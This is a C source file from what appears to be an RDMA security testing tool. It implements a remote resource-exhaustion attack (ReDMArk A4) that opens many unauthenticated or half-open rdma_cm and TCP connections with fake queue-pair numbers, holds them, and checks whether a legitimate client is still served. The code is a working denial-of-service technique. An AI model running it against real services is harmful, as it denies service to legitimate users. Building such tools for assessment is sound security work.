/* SPDX-License-Identifier: MIT */
/*
 * exhaust --remote (ReDMArk A4): many connections to an RDMA service, none
 * of them authenticated. A service that spends a QP (and CQ, MR, memory) on
 * every connection request before it knows who asks can be drained by anyone
 * who reaches its port; one that serves a single client at a time is denied
 * by one connection that never finishes. We open the connections, count what
 * the service shows it spent on us (the naive exchange line names the QP it
 * created; an rdma_cm reply means its QP exists), probe once as a legitimate
 * client while holding them, then hold on and close.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <infiniband/verbs.h>
#include <netinet/in.h>
#include <poll.h>
#include <rdma/rdma_cma.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "cli.h"
#include "common/attack.h"
#include "exhaust.h"
#include "mem_access/memacc_model.h"
#include "rdmasec.h"

enum { LINE_CAP = 256 };

struct tcp_conn {
	int fd;
	bool connected, sent, answered, closed;
	uint32_t qpn;       /* the service's QP for us, from its exchange line */
	size_t got;
	char line[LINE_CAP];
};

static uint32_t random_qpn(void)
{
	uint32_t v = 0;
	if (getrandom(&v, sizeof(v), 0) != sizeof(v))
		v = (uint32_t)getpid();
	return 0x11 + v % 0xfff00; /* looks like an rxe QPN */
}

static int tcp_start(const struct exh_remote_cfg *cfg)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(cfg->port),
				  .sin_addr.s_addr = htonl(cfg->dst) };
	struct sockaddr_in from = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	if (cfg->source && (inet_pton(AF_INET, cfg->source, &from.sin_addr) != 1 ||
			    bind(fd, (struct sockaddr *)&from, sizeof(from)))) {
		fprintf(stderr, "%s exhaust: cannot bind to %s: %s\n", PROG, cfg->source, strerror(errno));
		close(fd);
		return -1;
	}
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Our half of the naive exchange: a QPN we never created, our own address as GID (so its QP comes up). */
static void naive_send(struct tcp_conn *c)
{
	struct sockaddr_in me;
	socklen_t len = sizeof(me);
	struct naive_line l = { .qpn = random_qpn() };
	char buf[LINE_CAP];
	size_t n;

	if (getsockname(c->fd, (struct sockaddr *)&me, &len) == 0) {
		l.gid[10] = l.gid[11] = 0xff;
		memcpy(l.gid + 12, &me.sin_addr.s_addr, 4);
	}
	n = naive_line_format(&l, buf, sizeof(buf));
	c->sent = n && write(c->fd, buf, n) == (ssize_t)n;
}

/* Readable: the service's exchange line, or its close. */
static void tcp_readable(struct tcp_conn *c, bool parse)
{
	char buf[LINE_CAP];
	ssize_t r = read(c->fd, buf, sizeof(buf));

	if (r == 0 || (r < 0 && errno != EAGAIN && errno != EINTR)) {
		c->closed = true;
		return;
	}
	if (r < 0 || !parse || c->answered)
		return;
	for (ssize_t i = 0; i < r && !c->answered; i++) {
		if (buf[i] == '\n') {
			struct naive_line l;
			const char *why;
			if (naive_line_parse(c->line, c->got, &l, &why)) {
				c->answered = true;
				c->qpn = l.qpn;
			} else {
				fprintf(stderr, "%s exhaust: a malformed exchange line: %s\n", PROG, why);
				c->got = 0;
			}
		} else if (c->got < sizeof(c->line)) {
			c->line[c->got++] = buf[i];
		}
	}
}

/*
 * Drive the connections until deadline: finish connects, send our line
 * (naive with exchange), read answers, notice closes. With until_answered,
 * return as soon as every live connection has answered or closed.
 */
static void tcp_pump(const struct exh_remote_cfg *cfg, struct tcp_conn *c, uint32_t n, double deadline,
		     bool until_answered)
{
	struct pollfd *pf = calloc(n ? n : 1, sizeof(*pf));
	bool naive = cfg->proto == EXH_NAIVE;

	if (!pf)
		return;
	while (now_s() < deadline) {
		bool pending = false;
		for (uint32_t i = 0; i < n; i++) {
			pf[i].fd = c[i].fd < 0 || c[i].closed ? -1 : c[i].fd;
			pf[i].events = c[i].connected ? POLLIN : POLLOUT;
			pf[i].revents = 0;
			if (pf[i].fd >= 0 && (!c[i].connected || (naive && cfg->exchange && !c[i].answered)))
				pending = true;
		}
		if (until_answered && !pending)
			break;
		int ms = (int)((deadline - now_s()) * 1000) + 1;
		int r = poll(pf, n, ms > 100 ? 100 : ms);
		if (r < 0 && errno != EINTR)
			break;
		for (uint32_t i = 0; r > 0 && i < n; i++) {
			if (!pf[i].revents)
				continue;
			if (!c[i].connected) {
				int err = 0;
				socklen_t len = sizeof(err);
				if (getsockopt(c[i].fd, SOL_SOCKET, SO_ERROR, &err, &len) || err) {
					c[i].closed = true;
					continue;
				}
				c[i].connected = true;
				if (naive && cfg->exchange)
					naive_send(&c[i]);
				continue;
			}
			tcp_readable(&c[i], naive);
		}
	}
	free(pf);
}

/* One legitimate naive client: connect, exchange, and see whether the service answers. */
static int naive_probe(const struct exh_remote_cfg *cfg)
{
	struct exh_remote_cfg p = *cfg;
	struct tcp_conn c = { .fd = tcp_start(cfg) };

	p.exchange = true;
	if (c.fd < 0)
		return 0;
	tcp_pump(&p, &c, 1, now_s() + cfg->timeout_ms / 1000.0, true);
	close(c.fd);
	return c.answered ? 1 : 0;
}

/* One legitimate rdmasec client (TLS with a client certificate, then the QP). */
static int rdmasec_probe(const struct exh_remote_cfg *cfg, char *why, size_t cap)
{
	char err[256] = "", host[16];
	struct cli_certs files;
	struct rsec_ctx *ctx = NULL;
	struct rsec_conn *conn = NULL;

	if (!cli_certs_paths(&files, cfg->certs, cfg->identity)) {
		snprintf(why, cap, "--certs path too long");
		return -1;
	}
	struct rsec_ctx_attr attr = { .local_addr = cfg->source, .ca_file = files.ca, .cert_file = files.cert,
				      .key_file = files.key, .handshake_timeout_ms = cfg->timeout_ms };
	if (rsec_ctx_new(&attr, &ctx, err, sizeof(err)) < 0) {
		snprintf(why, cap, "rdmasec context: %s", err);
		return -1;
	}
	int rc = rsec_connect(ctx, ipv4_str(cfg->dst, host), cfg->port, NULL, cfg->timeout_ms, &conn);
	snprintf(why, cap, "%s", rc < 0 ? rsec_strerror(rc) : "connected");
	rsec_conn_free(conn);
	rsec_ctx_free(ctx);
	return rc < 0 ? 0 : 1;
}

/* ---- rdma_cm ---- */

/* The next event on ch within ms, or NULL. */
static struct rdma_cm_event *cm_next(struct rdma_event_channel *ch, int ms)
{
	struct pollfd pf = { .fd = ch->fd, .events = POLLIN };
	struct rdma_cm_event *ev;

	if (poll(&pf, 1, ms) <= 0 || rdma_get_cm_event(ch, &ev))
		return NULL;
	return ev;
}

/* Where each of our rdma_cm connections stands. */
enum cm_st { CM_NEW, CM_ADDR, CM_ROUTE, CM_SENT, CM_ANSWERED, CM_REJECTED, CM_FAILED, CM_CLOSED };

struct cm_state {
	struct rdma_event_channel *ch;
	struct rdma_cm_id **ids;
	enum cm_st *st;
	uint32_t n;
	struct exh_remote_tally *t;
	uint32_t *reply_qpn;
	struct rdma_cm_id *probe;   /* the legitimate client's id, while it runs */
	int probe_event;            /* its last event, -1 none */
};

/* One event: update the state of the connection it is for (id->context is index + 1). */
static void cm_dispatch(struct cm_state *s, struct rdma_cm_event *ev)
{
	int type = ev->event;
	uintptr_t k = (uintptr_t)ev->id->context;

	if (ev->id == s->probe) {
		s->probe_event = type;
	} else if (k >= 1 && k <= s->n) {
		uint32_t i = (uint32_t)(k - 1);
		switch (type) {
		case RDMA_CM_EVENT_ADDR_RESOLVED: s->st[i] = CM_ADDR; break;
		case RDMA_CM_EVENT_ROUTE_RESOLVED: s->st[i] = CM_ROUTE; break;
		case RDMA_CM_EVENT_CONNECT_RESPONSE:
		case RDMA_CM_EVENT_ESTABLISHED:
			s->st[i] = CM_ANSWERED;
			s->reply_qpn[i] = ev->param.conn.qp_num;
			s->t->connected++;
			s->t->resources_seen++;
			break;
		case RDMA_CM_EVENT_REJECTED:
			/* After its reply: the service gave up on us (we never sent the ready-to-use). */
			if (s->st[i] == CM_ANSWERED)
				s->t->closed_by_peer++;
			s->st[i] = CM_REJECTED;
			break;
		case RDMA_CM_EVENT_DISCONNECTED:
			if (s->st[i] == CM_ANSWERED)
				s->t->closed_by_peer++;
			s->st[i] = CM_CLOSED;
			break;
		case RDMA_CM_EVENT_ADDR_ERROR:
		case RDMA_CM_EVENT_ROUTE_ERROR:
		case RDMA_CM_EVENT_UNREACHABLE:
		case RDMA_CM_EVENT_CONNECT_ERROR:
			if (s->st[i] == CM_ANSWERED)
				s->t->closed_by_peer++;
			s->st[i] = CM_FAILED;
			break;
		default: break;
		}
	}
	rdma_ack_cm_event(ev);
}

/* Handle events until done(s, arg) or ms pass. */
static void cm_pump(struct cm_state *s, int ms, bool (*done)(const struct cm_state *, uint32_t), uint32_t arg)
{
	double end = now_s() + ms / 1000.0;

	while (!(done && done(s, arg)) && now_s() < end) {
		struct rdma_cm_event *ev = cm_next(s->ch, 50);
		if (ev)
			cm_dispatch(s, ev);
	}
}

/* No connection is still in state `st' (passed as the argument). */
static bool cm_none_in(const struct cm_state *s, uint32_t st)
{
	for (uint32_t i = 0; i < s->n; i++)
		if (s->st[i] == (enum cm_st)st)
			return false;
	return true;
}

static bool cm_probe_done(const struct cm_state *s, uint32_t want)
{
	return s->probe_event == (int)want || s->probe_event == RDMA_CM_EVENT_REJECTED ||
	       s->probe_event == RDMA_CM_EVENT_UNREACHABLE || s->probe_event == RDMA_CM_EVENT_CONNECT_ERROR ||
	       s->probe_event == RDMA_CM_EVENT_ADDR_ERROR || s->probe_event == RDMA_CM_EVENT_ROUTE_ERROR;
}

static int cm_bind_addrs(const struct exh_remote_cfg *cfg, struct sockaddr_in *from, struct sockaddr_in *to)
{
	*to = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(cfg->port),
				    .sin_addr.s_addr = htonl(cfg->dst) };
	*from = (struct sockaddr_in){ .sin_family = AF_INET };
	return cfg->source && inet_pton(AF_INET, cfg->source, &from->sin_addr) != 1 ? -1 : 0;
}

/*
 * All connections, step by step and each step for all at once (resolving
 * an address takes rdma_cm seconds on the fabric): requests with no QP
 * behind them. The service answers each by creating its QP and sending a
 * reply; we never send the ready-to-use, so its side stays half-open until
 * its CM gives up. The answers are collected by the caller.
 */
static void cm_half_open_all(struct cm_state *s, const struct exh_remote_cfg *cfg)
{
	struct sockaddr_in from, to;

	if (cm_bind_addrs(cfg, &from, &to))
		return;
	for (uint32_t i = 0; i < s->n; i++) {
		s->st[i] = CM_FAILED;
		if (rdma_create_id(s->ch, &s->ids[i], (void *)(uintptr_t)(i + 1), RDMA_PS_TCP)) {
			s->ids[i] = NULL;
			continue;
		}
		if (rdma_resolve_addr(s->ids[i], cfg->source ? (struct sockaddr *)&from : NULL,
				      (struct sockaddr *)&to, cfg->timeout_ms) == 0)
			s->st[i] = CM_NEW;
	}
	cm_pump(s, cfg->timeout_ms + 500, cm_none_in, CM_NEW);
	for (uint32_t i = 0; i < s->n; i++)
		if (s->st[i] == CM_ADDR && rdma_resolve_route(s->ids[i], cfg->timeout_ms))
			s->st[i] = CM_FAILED;
	cm_pump(s, cfg->timeout_ms + 500, cm_none_in, CM_ADDR);
	for (uint32_t i = 0; i < s->n; i++) {
		struct rdma_conn_param p = { .responder_resources = 1, .initiator_depth = 1, .retry_count = 7,
					     .rnr_retry_count = 7, .qp_num = random_qpn() };
		if (s->st[i] == CM_ROUTE)
			s->st[i] = rdma_connect(s->ids[i], &p) ? CM_FAILED : CM_SENT;
		else if (s->st[i] != CM_FAILED)
			s->st[i] = CM_FAILED; /* still resolving after the timeout */
	}
}

static const char *cm_st_name(enum cm_st st)
{
	static const char *const names[] = { "not started", "address resolved", "route resolved", "no answer",
					     "answered (CONNECT_RESPONSE)", "rejected", "failed", "closed" };
	return (unsigned)st < sizeof(names) / sizeof(names[0]) ? names[st] : "?";
}

/* A legitimate rdma_cm client: a real QP, and the connection must reach ESTABLISHED. */
static int cm_probe(struct cm_state *s, const struct exh_remote_cfg *cfg, char *why, size_t cap)
{
	struct ibv_qp_init_attr qa = { .qp_type = IBV_QPT_RC,
				       .cap = { .max_send_wr = 1, .max_recv_wr = 1, .max_send_sge = 1,
						.max_recv_sge = 1 } };
	struct rdma_conn_param p = { .responder_resources = 1, .initiator_depth = 1, .retry_count = 7,
				     .rnr_retry_count = 7 };
	struct sockaddr_in from, to;
	struct rdma_cm_id *id;
	int ok = 0;

	if (cm_bind_addrs(cfg, &from, &to) || rdma_create_id(s->ch, &id, NULL, RDMA_PS_TCP))
		return -1;
	s->probe = id;
	s->probe_event = -1;
	if (rdma_resolve_addr(id, cfg->source ? (struct sockaddr *)&from : NULL, (struct sockaddr *)&to,
			      cfg->timeout_ms) == 0)
		cm_pump(s, cfg->timeout_ms + 500, cm_probe_done, RDMA_CM_EVENT_ADDR_RESOLVED);
	if (s->probe_event == RDMA_CM_EVENT_ADDR_RESOLVED && rdma_resolve_route(id, cfg->timeout_ms) == 0)
		cm_pump(s, cfg->timeout_ms + 500, cm_probe_done, RDMA_CM_EVENT_ROUTE_RESOLVED);
	if (s->probe_event != RDMA_CM_EVENT_ROUTE_RESOLVED || rdma_create_qp(id, NULL, &qa)) {
		snprintf(why, cap, "cannot resolve the service or create our QP");
		s->probe = NULL;
		rdma_destroy_id(id);
		return -1;
	}
	s->probe_event = -1;
	if (rdma_connect(id, &p) == 0) {
		cm_pump(s, cfg->timeout_ms, cm_probe_done, RDMA_CM_EVENT_ESTABLISHED);
		ok = s->probe_event == RDMA_CM_EVENT_ESTABLISHED;
	}
	snprintf(why, cap, "%s",
		 s->probe_event < 0 ? "no answer" : rdma_event_str((enum rdma_cm_event_type)s->probe_event));
	if (ok && rdma_disconnect(id) == 0)
		cm_pump(s, 1000, cm_probe_done, RDMA_CM_EVENT_DISCONNECTED);
	s->probe = NULL;
	rdma_destroy_qp(id);
	rdma_destroy_id(id);
	return ok;
}

static void hold(double seconds, struct tcp_conn *c, uint32_t n, const struct exh_remote_cfg *cfg,
		 struct cm_state *cm)
{
	double end = now_s() + seconds;

	if (seconds > 0)
		fprintf(stderr, "%s exhaust: holding %u connections for %.1f s\n", PROG, n, seconds);
	if (c) {
		tcp_pump(cfg, c, n, end, false);
		return;
	}
	cm_pump(cm, (int)(seconds * 1000), NULL, 0);
}

static const char *proto_name(enum exh_proto p)
{
	return p == EXH_NAIVE ? "naive" : p == EXH_RDMASEC ? "rdmasec" : p == EXH_TCP ? "tcp" : "rdma_cm";
}

/* rdma_cm: one half-open connection request each, and what became of them; false after saying why. */
static bool open_cm(const struct exh_remote_cfg *cfg, struct cm_state *cm, uint32_t *qpns, struct exh_remote_tally *t)
{
	cm->ids = calloc(cfg->connections, sizeof(*cm->ids));
	cm->st = calloc(cfg->connections, sizeof(*cm->st));
	cm->reply_qpn = qpns;
	cm->n = cfg->connections;
	if (!cm->ids || !cm->st || !(cm->ch = rdma_create_event_channel())) {
		fprintf(stderr, "%s exhaust: rdma_cm: %s\n", PROG, strerror(errno));
		return false;
	}
	cm_half_open_all(cm, cfg);
	cm_pump(cm, cfg->timeout_ms, cm_none_in, CM_SENT);
	for (uint32_t i = 0; i < cfg->connections; i++) {
		t->rejected += cm->st[i] == CM_REJECTED && !cm->reply_qpn[i];
		fprintf(stderr, "%s exhaust: rdma_cm connection %u: %s\n", PROG, i + 1, cm_st_name(cm->st[i]));
	}
	return true;
}

/* TCP: connect them all (naive: send our half of the exchange) and count the answers. */
static bool open_tcp(const struct exh_remote_cfg *cfg, struct tcp_conn **out, uint32_t *qpns,
		     struct exh_remote_tally *t)
{
	struct tcp_conn *c = calloc(cfg->connections, sizeof(*c));

	*out = c;
	if (!c)
		return false;
	for (uint32_t i = 0; i < cfg->connections; i++)
		if ((c[i].fd = tcp_start(cfg)) < 0)
			c[i].closed = true;
	tcp_pump(cfg, c, cfg->connections, now_s() + cfg->timeout_ms / 1000.0, true);
	for (uint32_t i = 0; i < cfg->connections; i++) {
		t->connected += c[i].connected;
		t->rejected += c[i].closed && !c[i].connected;
		t->resources_seen += c[i].answered;
		qpns[i] = c[i].answered ? c[i].qpn : 0;
	}
	return true;
}

/* One legitimate client while the connections are held: t->legit and why. */
static void legit_probe(const struct exh_remote_cfg *cfg, struct cm_state *cm, struct exh_remote_tally *t,
			char *why, size_t cap)
{
	switch (cfg->proto) {
	case EXH_NAIVE:
		t->legit = naive_probe(cfg);
		snprintf(why, cap, "%s", t->legit ? "answered the exchange" : "no answer");
		break;
	case EXH_RDMASEC:
		if (cfg->certs)
			t->legit = rdmasec_probe(cfg, why, cap);
		else
			snprintf(why, cap, "not tried: needs --certs");
		break;
	case EXH_RDMA_CM:
		t->legit = cm_probe(cm, cfg, why, cap);
		break;
	case EXH_TCP:
		snprintf(why, cap, "not tried: no generic client, run the service's own");
		break;
	}
	if (t->legit < 0)
		t->legit = -1;
	fprintf(stderr, "%s exhaust: legitimate client: %s\n", PROG, why);
}

static void report_json(const struct exh_remote_cfg *cfg, const struct exh_remote_tally *t, const uint32_t *qpns,
			double setup_s, const char *why)
{
	struct json j;
	uint64_t shown[16];
	size_t ns = 0;
	char host[16];

	for (uint32_t i = 0; i < cfg->connections && ns < 16; i++)
		if (qpns[i])
			shown[ns++] = qpns[i];
	json_begin(&j, "exhaust");
	json_str(&j, "mode", "remote");
	json_str(&j, "proto", proto_name(cfg->proto));
	json_str(&j, "dst", ipv4_str(cfg->dst, host));
	json_u64(&j, "port", cfg->port);
	json_u64(&j, "connections", t->attempted);
	json_u64(&j, "connected", t->connected);
	json_u64(&j, "service_qps_seen", t->resources_seen);
	json_u64_array(&j, "service_qpns", shown, ns, true);
	json_u64(&j, "refused_by_service", t->rejected);
	json_u64(&j, "closed_by_service", t->closed_by_peer);
	json_num(&j, "setup_s", setup_s);
	json_str(&j, "legit", t->legit == 1 ? "served" : t->legit == 0 ? "refused" : "not-tried");
	json_str(&j, "legit_detail", why);
	json_num(&j, "hold_s", cfg->hold_s);
	json_str(&j, "verdict", exh_remote_verdict(t));
	json_boolean(&j, "ok", true);
	json_end(&j);
}

static void report_text(const struct exh_remote_tally *t, const char *why)
{
	printf("%u/%u connected (%u refused), the service showed %u QPs spent on them, closed %u\n",
	       t->connected, t->attempted, t->rejected, t->resources_seen, t->closed_by_peer);
	printf("legitimate client: %s (%s)\nverdict: %s\n",
	       t->legit == 1 ? "served" : t->legit == 0 ? "refused" : "not tried", why, exh_remote_verdict(t));
}

static void release(const struct exh_remote_cfg *cfg, struct tcp_conn *c, struct cm_state *cm)
{
	if (c)
		for (uint32_t i = 0; i < cfg->connections; i++)
			if (c[i].fd >= 0)
				close(c[i].fd);
	free(c);
	for (uint32_t i = 0; cm->ids && i < cm->n; i++)
		if (cm->ids[i])
			rdma_destroy_id(cm->ids[i]);
	free(cm->ids);
	free(cm->st);
	if (cm->ch)
		rdma_destroy_event_channel(cm->ch);
}

int exhaust_remote(const struct exh_remote_cfg *cfg)
{
	struct exh_remote_tally t = { .attempted = cfg->connections, .legit = -1 };
	struct tcp_conn *c = NULL;
	struct cm_state cm = { .t = &t };
	char why[160] = "", host[16];
	uint32_t *qpns = calloc(cfg->connections, sizeof(*qpns));
	double t0 = now_s(), setup_s;
	bool opened;
	int rc = 1;

	if (!qpns)
		return 1;
	/* A service that closes on us must not kill us with SIGPIPE (the probe's TLS writes, our exchange line). */
	if (signal(SIGPIPE, SIG_IGN) == SIG_ERR) {
		free(qpns);
		return 1;
	}
	fprintf(stderr, "%s exhaust: %u %s connections to %s:%u\n", PROG, cfg->connections, proto_name(cfg->proto),
		ipv4_str(cfg->dst, host), cfg->port);
	opened = cfg->proto == EXH_RDMA_CM ? open_cm(cfg, &cm, qpns, &t) : open_tcp(cfg, &c, qpns, &t);
	if (!opened)
		goto out;
	setup_s = now_s() - t0;
	fprintf(stderr, "%s exhaust: %u connected, %u refused, %u answered with a QP of theirs, in %.2f s\n", PROG,
		t.connected, t.rejected, t.resources_seen, setup_s);
	if (cfg->probe)
		legit_probe(cfg, &cm, &t, why, sizeof(why));
	hold(cfg->hold_s, c, cfg->connections, cfg, &cm);
	if (c)
		for (uint32_t i = 0; i < cfg->connections; i++)
			t.closed_by_peer += c[i].closed && c[i].connected;
	rc = 0;
	if (cfg->json)
		report_json(cfg, &t, qpns, setup_s, why);
	else
		report_text(&t, why);
out:
	release(cfg, c, &cm);
	free(qpns);
	return rc;
}
